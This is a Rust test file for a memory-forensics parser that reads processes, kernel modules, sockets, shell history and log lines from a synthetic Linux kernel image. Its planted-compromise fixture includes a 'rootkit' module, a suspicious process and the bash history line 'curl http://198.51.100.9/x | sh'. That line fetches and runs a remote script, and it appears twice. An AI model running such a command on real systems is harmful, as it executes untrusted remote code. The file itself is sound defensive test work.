//! A made kernel, read whole and with damage; and a bundle of it, from stream to row and back.

mod bundle;

use std::sync::Arc;

use super::made_kernel::{BOOT_NS, KERNEL, MadeKernel, listener6, sock4};
use super::{Artefact, MemoryImage};
use crate::bytes::ByteSource;
use crate::event::{Event, flags};
use crate::file_scan::Account;
use crate::parser::Context;
use crate::record::{self, Place};

const ALL: [Artefact; 6] = [
    Artefact::Host,
    Artefact::Processes,
    Artefact::Modules,
    Artefact::Sockets,
    Artefact::Commands,
    Artefact::Lines,
];

/// A machine with three processes, two modules and four sockets.
pub(super) fn machine() -> MadeKernel {
    let mut made = MadeKernel::new();
    let web = made.process(100, "nginx", 33, 5_000_000_000);
    let evil = made.process(200, "kworkerd", 0, 60_250_000_000);
    let shell = made.process(201, "bash", 1000, 61_000_000_000);
    made.remember(
        shell,
        &[("#1795168861\0", "curl http://198.51.100.9/x | sh\0"), ("#17951688\0", "no time\0")],
    );
    made.delete_executable(evil);
    made.module("e1000", 0xffff_ffff_c000_0000, 0x8000);
    made.module("rootkit", 0xffff_ffff_c010_0000, 0x4000);
    made.sockets(web, &[sock4(([0; 4], 80), ([0; 4], 0), 10, 6), listener6(443)]);
    made.sockets(
        evil,
        &[
            sock4(([192, 0, 2, 5], 51000), ([198, 51, 100, 9], 443), 1, 6),
            sock4(([127, 0, 0, 1], 53), ([0; 4], 0), 7, 17),
        ],
    );
    made.text(0xe_0000, b"\n2026-11-20T10:00:01+00:00 made01 sshd[9]: Accepted password for root from 192.0.2.7 port 5 ssh2\n");
    made
}

fn open(image: Vec<u8>, pack: &[(&'static str, Arc<dyn ByteSource>)]) -> MemoryImage {
    let mut image = MemoryImage::open("memory", Arc::new(image), &[]).unwrap();
    image.take_symbols(pack.iter().map(|(path, source)| ("symbols/tar", *path, source.clone())));
    image
}

fn read(image: &MemoryImage, artefact: Artefact) -> (Vec<Event>, Account) {
    let mut rows = Vec::new();
    let account = image.read(artefact, &Context::default(), &mut |row| rows.push(row));
    (rows, account)
}

fn line(row: &Event) -> String {
    let time = row.time.map_or("undated".into(), |time| time.to_rfc3339());
    format!("{time} {}", row.message)
}

fn lines(image: &MemoryImage, artefact: Artefact) -> Vec<String> {
    read(image, artefact).0.iter().map(line).collect()
}

#[test]
fn processes_modules_sockets_and_boot_are_read_by_the_kernels_own_types() {
    let image = open(machine().image(), &MadeKernel::pack());
    assert_eq!(
        lines(&image, Artefact::Processes),
        [
            "2026-11-20T10:00:05.500Z process nginx (100) started by user 33: /bin/nginx --pid=100",
            "2026-11-20T10:01:00.750Z process kworkerd (200) started by user 0: /bin/kworkerd --pid=200",
            "2026-11-20T10:01:01.500Z process bash (201) started by user 1000: /bin/bash --pid=201",
        ]
    );
    assert_eq!(
        lines(&image, Artefact::Modules),
        [
            "2026-11-20T10:01:40Z kernel module e1000 is live at 0xffffffffc0000000",
            "2026-11-20T10:01:40Z kernel module rootkit is live at 0xffffffffc0100000",
        ]
    );
    assert_eq!(
        lines(&image, Artefact::Sockets),
        [
            "2026-11-20T10:01:40Z TCP socket of nginx (100): *:80, listening",
            "2026-11-20T10:01:40Z TCP socket of nginx (100): [::]:443, listening",
            "2026-11-20T10:01:40Z TCP socket of kworkerd (200): 192.0.2.5:51000 with 198.51.100.9:443, established",
            "2026-11-20T10:01:40Z UDP socket of kworkerd (200): 127.0.0.1:53, unconnected",
        ]
    );
    assert_eq!(
        lines(&image, Artefact::Host),
        [
            "2026-11-20T10:00:00.500Z made01 (Linux 6.1.0-made) started",
            "2026-11-20T10:01:40Z made01 (Linux 6.1.0-made): what the kernel's clock stood at when memory was read",
        ]
    );
    assert_eq!(
        lines(&image, Artefact::Lines),
        ["2026-11-20T10:00:01Z sshd[9]: Accepted password for root from 192.0.2.7 port 5 ssh2"]
    );
    assert_eq!(
        lines(&image, Artefact::Commands),
        ["2026-11-20T10:01:01Z bash (201): curl http://198.51.100.9/x | sh"]
    );
    assert_eq!(image.issues(), [""; 0]);
    assert_eq!(image.host().as_deref(), Some("made01"));

    let processes = read(&image, Artefact::Processes).0;
    assert_eq!(
        processes[1].attrs.to_json(),
        r#"{"ppid":0,"uid":0,"gid":0,"state":"sleeping","kernel_thread":false,"boottime_ns":60250000000,"executable_deleted":true}"#
    );
    assert_eq!(processes[1].path.as_deref(), Some("/bin/kworkerd"));
    let sockets = read(&image, Artefact::Sockets).0;
    assert_eq!((sockets[2].inode, sockets[2].pid), (Some(7000), Some(200)));
    assert_eq!((sockets[2].dst_ip.as_deref(), sockets[2].dst_port), (Some("198.51.100.9"), Some(443)));
    assert_eq!(sockets[0].attrs.get("network_namespace").unwrap(), 4_026_531_840u64);
}

#[test]
fn every_row_comes_again_from_its_bytes_and_pieces_alone() {
    let image = open(machine().image(), &MadeKernel::pack());
    for artefact in ALL {
        let (rows, account) = read(&image, artefact);
        for same in rows.chunk_by(|a, b| (a.span, &a.pieces) == (b.span, &b.pieces)) {
            let place =
                Place { locator: "memory/lime".into(), span: same[0].span, pieces: same[0].pieces.clone() };
            let record = record::read(image.source(), None, &place).unwrap();
            let again = image.rows_of_record(
                artefact,
                &record.bytes,
                same[0].span,
                &record.pieces,
                &Context::default(),
            );
            assert!(again == same, "{again:?} {same:?}");
        }
        assert_eq!(account.events, rows.len() as u64);
        assert!(account.bytes_used <= account.bytes && account.failed == 0);
    }
}

#[test]
fn what_a_row_says_changes_with_the_bytes_that_it_names() {
    let image = open(machine().image(), &MadeKernel::pack());
    let row = &read(&image, Artefact::Processes).0[1];
    let place = Place { locator: "memory/lime".into(), span: row.span, pieces: row.pieces.clone() };
    let mut record = record::read(image.source(), None, &place).unwrap();
    let (_, owner) = record.pieces.iter_mut().find(|(_, bytes)| !bytes.is_empty()).unwrap();
    owner[0] = 7;
    let again = image.rows_of_record(
        Artefact::Processes,
        &record.bytes,
        row.span,
        &record.pieces,
        &Context::default(),
    );
    assert_eq!(again[0].attrs.get("uid").unwrap(), 7);
}

#[test]
fn what_the_pack_lacks_is_found_in_memory_and_said() {
    let mut made = machine();
    let whole = open(made.image(), &MadeKernel::pack());
    let pack = MadeKernel::pack();
    // Without the note, by the name of the first task.
    let by_task = open(made.image(), &pack[..2]);
    assert_eq!(lines(&by_task, Artefact::Processes), lines(&whole, Artefact::Processes));
    assert_eq!(
        by_task.issues(),
        ["the kernel was found by the name of its first task: there is no VMCOREINFO"]
    );
    // With the note in memory alone.
    made.text(0xf_0000, MadeKernel::vmcoreinfo().as_bytes());
    let by_note = open(made.image(), &pack[..2]);
    assert_eq!(lines(&by_note, Artefact::Processes), lines(&whole, Artefact::Processes));
    assert_eq!(
        by_note.issues(),
        ["the addresses of the kernel were found in memory itself (VMCOREINFO of 6.1.0-made)"]
    );
}

#[test]
fn without_symbols_lines_are_still_carved_and_what_is_missing_is_said() {
    let image = open(machine().image(), &[]);
    for artefact in ALL {
        let (rows, account) = read(&image, artefact);
        if artefact == Artefact::Lines {
            assert_eq!((rows.len(), rows[0].flags), (1, flags::RECOVERED));
            assert_eq!(account.stopped, None);
        } else {
            assert_eq!(rows, []);
            assert_eq!(
                account.stopped.as_deref(),
                Some("the kernel is not known: see the issues of this memory")
            );
        }
    }
    assert_eq!(
        image.issues(),
        [
            "there are no kernel types (BTF), neither in the symbols pack nor in memory: processes, modules and \
          sockets are not read"
        ]
    );
}

#[test]
fn symbols_of_another_boot_are_refused() {
    let mut pack = MadeKernel::pack();
    let moved = format!("{:016x} D init_task\n{:016x} D init_top_pgt\n", KERNEL + 0x3_0000, KERNEL + 0x1000);
    pack[0].1 = Arc::new(moved.into_bytes());
    let image = open(machine().image(), &pack);
    assert_eq!(read(&image, Artefact::Processes).0, []);
    assert_eq!(image.issues()[0], "the symbols pack does not fit this memory: is it of another boot?");
    let hidden = format!("{:016x} D init_task\n", 0);
    pack[0].1 = Arc::new(hidden.into_bytes());
    assert!(open_issues(&pack)[0].contains("kptr_restrict"));
}

fn open_issues(pack: &[(&'static str, Arc<dyn ByteSource>)]) -> Vec<String> {
    let image = open(machine().image(), pack);
    read(&image, Artefact::Processes);
    image.issues()
}

#[test]
fn a_broken_list_gives_what_both_of_its_ends_reach_and_names_the_place() {
    let mut made = machine();
    let lost = made.process(300, "lost", 0, 1);
    made.process(400, "after", 0, 1);
    made.put(lost + 16, 0x1234_5678);
    let image = open(made.image(), &MadeKernel::pack());
    let (rows, account) = read(&image, Artefact::Processes);
    let pids: Vec<i64> = rows.iter().filter_map(|row| row.pid).collect();
    assert_eq!(pids, [100, 200, 201, 300, 400]);
    assert_eq!(account.failed, 1);
    assert_eq!(account.rejects[0].1, "the process behind this one is not in the image");
    assert_eq!(account.rejects[0].0, rows[3].span);
}

#[test]
fn a_list_that_runs_in_a_circle_ends() {
    let mut made = machine();
    let task = made.process(300, "loop", 0, 1);
    let module = made.module("loop", 0, 0);
    made.put(task + 16, KERNEL + task + 16);
    made.put(module, KERNEL + module);
    let image = open(made.image(), &MadeKernel::pack());
    let (rows, account) = read(&image, Artefact::Processes);
    assert_eq!((rows.len(), account.failed), (4, 1));
    let (rows, account) = read(&image, Artefact::Modules);
    assert_eq!((rows.len(), account.failed), (3, 1));
}

#[test]
fn missing_pages_cost_only_what_lay_in_them() {
    let made = machine();
    let whole = open(made.image(), &MadeKernel::pack());
    let all = lines(&whole, Artefact::Processes).len();
    // Every page that holds something is zeros, in turn.
    let is_used = |page: &usize| made.memory[page * 4096..(page + 1) * 4096].iter().any(|b| *b != 0);
    for page in (0..made.memory.len() / 4096).filter(is_used) {
        let mut damaged = made.clone();
        damaged.memory[page * 4096..(page + 1) * 4096].fill(0);
        let image = open(damaged.image(), &MadeKernel::pack());
        for artefact in &ALL[..5] {
            let (rows, account) = read(&image, *artefact);
            let lost = rows.is_empty() || rows.len() < all;
            let said = account.stopped.is_some() || account.failed > 0 || !image.issues().is_empty();
            assert!(*artefact != Artefact::Processes || !lost || said, "page {page}");
        }
    }
}

#[test]
fn random_damage_gives_rows_and_rejects_but_never_a_panic() {
    let made = machine();
    let used: Vec<usize> = (0..made.memory.len()).filter(|at| made.memory[*at] != 0).collect();
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    let mut random = move |limit: usize| {
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        (x.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % limit
    };
    let types = super::made_kernel::types();
    for _ in 0..120 {
        let mut damaged = made.clone();
        for _ in 0..=random(6) {
            damaged.memory[used[random(used.len())]] = random(256) as u8;
        }
        let mut pack = MadeKernel::pack();
        if random(3) == 0 {
            let mut types = types.clone();
            for _ in 0..=random(4) {
                let at = random(types.len());
                types[at] = random(256) as u8;
            }
            pack[1].1 = Arc::new(types);
        }
        let image = open(damaged.image(), &pack);
        for artefact in &ALL[..5] {
            for row in read(&image, *artefact).0 {
                assert!(row.span.end() <= image.source().len() && row.span.length > 0);
            }
        }
    }
}

#[test]
fn times_before_boot_and_beyond_the_calendar_stay_undated() {
    let mut made = machine();
    made.process(300, "never", 0, u64::MAX);
    let image = open(made.image(), &MadeKernel::pack());
    let rows = read(&image, Artefact::Processes).0;
    assert_eq!(rows[3].time, None);
    assert_eq!(BOOT_NS % 1_000_000_000, 500_000_000);
}
